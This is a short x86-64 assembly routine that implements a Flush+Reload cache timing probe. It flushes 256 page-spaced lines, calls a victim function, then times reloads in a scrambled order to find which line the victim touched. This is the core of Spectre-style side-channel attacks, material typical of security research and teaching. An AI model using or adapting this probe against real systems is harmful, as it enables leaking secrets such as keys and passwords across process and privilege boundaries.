# spy() -> RAX = the line that victim touches, or -1
spy:
    mov edi, 0x10000000
    mov ecx, 256
flush:
    clflush [rdi]
    add rdi, 4096
    dec ecx
    jnz flush
    mfence
    call victim
    mfence
    mov r8d, 13             # the line
    mov r9d, 256            # lines to go
    mov r10, -1             # the one that was fast
reload:
    mov edi, r8d
    shl edi, 12
    add edi, 0x10000000
    rdtscp
    mov esi, eax
    lfence
    mov al, [rdi]
    rdtscp
    sub eax, esi
    cmp eax, 140            # a cached line takes about 60 cycles with the clock's own, another one over 200
    cmovb r10, r8           # no branch: a mispredicted one would touch lines, too
    add r8d, 167
    and r8d, 255
    dec r9d
    jnz reload
    mov rax, r10
    ret
